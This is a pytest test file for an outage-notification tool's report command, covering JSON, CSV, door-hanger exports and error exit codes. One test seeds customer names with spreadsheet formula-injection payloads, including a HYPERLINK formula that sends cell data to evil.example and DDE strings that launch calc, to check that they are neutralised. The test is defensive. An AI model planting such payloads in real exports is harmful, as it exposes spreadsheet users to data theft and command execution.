"""``outage-notify report`` through the CLI: exit codes, --json, --csv, the table."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from outage_notify.db import Database
from outage_notify.models import OptOut
from tests.factories import T0, add_area, add_customer, add_outage
from tests.report_seeds import seed_outage, seed_year

Run = Callable[..., Result]
NOW = "2026-12-02T09:00"  # REPORT_AT in local time (Asia/Shanghai)


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_outage_json_has_the_count_of_each_delivery_state_per_channel(
    db: Database, run_cli: Run
) -> None:
    seed = seed_outage(db)
    result = run_cli("report", "--outage", str(seed.outage_id), "--json", "--now", NOW)
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["deliveries"]["sms"] == {
        "pending": 0,
        "sending": 0,
        "sent": 5,
        "delivered": 1,
        "undelivered": 0,
        "failed": 2,
        "skipped": 8,
        "expired": 0,
        "superseded": 0,
    }
    assert data["deliveries"]["email"]["pending"] == 2
    assert data["coverage"]["share"] == 0.3333
    assert data["door_hangers"]["count"] == 8
    assert data["generated_at"] == "2026-12-02T09:00:00+08:00"


def test_outage_csv_is_the_door_hanger_list(db: Database, run_cli: Run) -> None:
    seed = seed_outage(db)
    result = run_cli("report", "--outage", str(seed.outage_id), "--csv", "--now", NOW)
    assert result.exit_code == 0, result.output
    rows = _csv(result.stdout)
    assert rows[0] == [
        "account_id",
        "name",
        "address",
        "phone",
        "email",
        "critical",
        "reason",
        "detail",
    ]
    assert [(r[0], r[6]) for r in rows[1:]] == [
        ("A009", "failed"),
        ("A003", "no_contact"),
        ("A004", "opted_out"),
        ("A005", "failed"),
        ("A006", "not_yet_sent"),
        ("A010", "invalid_contact"),
        ("A012", "not_yet_sent"),
        ("A013", "mixed"),
    ]
    # E.164 numbers begin with "+": neutralised like any formula.
    assert rows[3][:5] == ["A004", "Zhao Lei", "4 Water St", "'+8613900000004", ""]


def test_formulas_in_customer_data_are_neutralised(db: Database, run_cli: Run) -> None:
    names = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ]
    with db.session() as s:
        add_area(s, "W1")
        for i, name in enumerate(names):
            add_customer(
                s,
                f"F{i}",
                name=name,
                address="=1+1",
                phone=f"+861380000000{i}",
                email=f"-f{i}@example.org",
                water_area="W1",
            )
            s.add(OptOut(channel="sms", address=f"+861380000000{i}", source="sms"))
            s.add(OptOut(channel="email", address=f"-f{i}@example.org", source="email"))
        outage = add_outage(s, start=T0)
    result = run_cli("report", "--outage", str(outage.id), "--csv", "--now", NOW)
    assert result.exit_code == 0, result.output
    rows = _csv(result.stdout)[1:]
    assert [r[1] for r in rows] == ["'" + name for name in names]
    assert {r[2] for r in rows} == {"'=1+1"}
    assert all(r[3].startswith("'+86") and r[4].startswith("'-f") for r in rows)
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not [value for row in rows for value in row if value.startswith(dangerous)]


def test_outage_table_shows_coverage_and_the_door_hanger_summary(
    db: Database, run_cli: Run
) -> None:
    seed = seed_outage(db)
    result = run_cli("report", "--outage", str(seed.outage_id), "--now", NOW)
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert "Coverage: 4 of 12 affected premises reached before the start (33.3%" in out
    assert "Door-hanger list: 8 premises not reached." in out
    assert "mailbox unavailable" in out
    assert f"outage-notify report --outage {seed.outage_id} --csv" in out


def test_door_hangers_file_is_written_for_excel(db: Database, run_cli: Run, tmp_path: Path) -> None:
    seed = seed_outage(db)
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "hangers.csv"
    result = run_cli(
        "report",
        "--outage",
        str(seed.outage_id),
        "--json",
        "--now",
        NOW,
        "--door-hangers",
        str(target),
    )
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["door_hangers"]["count"] == 8
    assert "Wrote 8 door hangers" in result.stderr
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel then reads UTF-8
    assert len(_csv(data.decode("utf-8-sig"))) == 9
    assert [p.name for p in target.parent.iterdir()] == ["hangers.csv"]  # no temporary left


def test_door_hangers_into_a_missing_directory_exits_1(
    db: Database, run_cli: Run, tmp_path: Path
) -> None:
    seed = seed_outage(db)
    target = tmp_path / "missing" / "hangers.csv"
    result = run_cli("report", "--outage", str(seed.outage_id), "--door-hangers", str(target))
    assert result.exit_code == 1
    assert "directory" in result.output
    assert "does not exist" in result.output
    assert not target.parent.exists()


def test_a_missing_outage_exits_1_with_a_message(db: Database, run_cli: Run) -> None:
    result = run_cli("report", "--outage", "999")
    assert result.exit_code == 1
    assert "Error: outage 999 does not exist" in result.output
    assert "Traceback" not in result.output


def test_year_json_csv_and_table(db: Database, run_cli: Run) -> None:
    seed_year(db)
    as_json = run_cli("report", "--year", "2026", "--json", "--now", "2027-02-01T08:00")
    assert as_json.exit_code == 0, as_json.output
    data = json.loads(as_json.stdout)
    assert (data["outages"]["total"], data["first_notice"]["median_lead_hours"]) == (7, 39.0)
    assert data["delivery_success"]["sms"]["rate"] == 0.5625

    as_csv = run_cli("report", "--year", "2026", "--csv", "--now", "2027-02-01T08:00")
    assert as_csv.exit_code == 0, as_csv.output
    rows = _csv(as_csv.stdout)
    assert rows[0] == ["figure", "breakdown", "value"]
    assert ["customer_hours_actual", "", "28.0"] in rows
    assert ["inbound", "stop", "2"] in rows

    table = run_cli("report", "--year", "2026", "--now", "2027-02-01T08:00")
    assert table.exit_code == 0, table.output
    assert "Annual report 2026" in table.stdout
    assert "3 of 5 outages (60.0%) met the 24 h minimum" in table.stdout


@pytest.mark.parametrize(
    ("year", "message"),
    [
        ("1969", "year 1969 is out of range"),
        ("twenty", "'twenty' is not a year"),
        ("2024", "no report for 2024: no outage starts in it"),
    ],
)
def test_a_bad_or_unknown_year_exits_1(db: Database, run_cli: Run, year: str, message: str) -> None:
    with db.session() as s:
        add_area(s, "W1")
        add_outage(s)  # in 2026
    result = run_cli("report", "--year", year)
    assert result.exit_code == 1
    assert message in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    "args",
    [
        [],
        ["--outage", "1", "--year", "2026"],
        ["--outage", "1", "--json", "--csv"],
        ["--year", "2026", "--door-hangers", "x.csv"],
    ],
)
def test_usage_errors_exit_2(run_cli: Run, args: list[str]) -> None:
    result = run_cli("report", *args)
    assert result.exit_code == 2, result.output


def test_an_outage_is_named_by_id_or_ref(db: Database, run_cli: Run) -> None:
    with db.session() as s:
        add_area(s, "W1")
        outage = add_outage(s)
        outage.ref = "WO-2291"
    at = ("--json", "--now", "2026-12-01T08:00")
    by_ref = run_cli("report", "--outage", "WO-2291", *at)
    assert by_ref.exit_code == 0, by_ref.output
    assert by_ref.output == run_cli("report", "--outage", "1", *at).output
    unknown = run_cli("report", "--outage", "one")
    assert unknown.exit_code == 1
    assert "there is no outage #one or with ref one" in unknown.output


def test_a_bad_now_exits_1(run_cli: Run) -> None:
    result = run_cli("report", "--outage", "1", "--now", "next tuesday")
    assert result.exit_code == 1
    assert "--now 'next tuesday' is not an ISO 8601 time" in result.output
